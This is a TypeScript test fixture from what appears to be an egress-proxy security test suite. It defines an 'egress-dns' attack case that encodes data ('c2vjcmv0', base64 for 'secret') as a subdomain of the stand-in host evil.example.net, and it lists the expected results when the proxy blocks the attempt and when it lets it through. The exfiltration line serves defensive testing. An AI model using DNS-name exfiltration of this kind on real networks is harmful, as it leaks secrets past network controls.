// Data that leaves as the name that is asked for: who answers for a domain reads every name below it.
import type { RunnerAttack } from "../testing/attack-target.ts";

export const egressDns: RunnerAttack = {
  id: "egress-dns",
  title: "send data out as names to resolve",
  stride: "I",
  layer: "egress proxy",
  against: "box",
  hosts: ({ port }) => [`api.example.org:${port}`],
  async attempt(target) {
    const found = await target.viaProxy(`
found["name"] = tunnel("c2vjcmv0.evil.example.net:${target.net.port}")[0][:3]`);
    return { found, resolved: target.net.lookups };
  },
  blocked: () => ({ found: { name: "403" }, resolved: [] }),
  egress: () => ["denied CONNECT c2vjcmv0.evil.example.net host_not_listed x1"],
  audit: () => [],
  planted: { gives: () => ({ found: { name: "200" }, resolved: ["c2vjcmv0.evil.example.net"] }) },
};
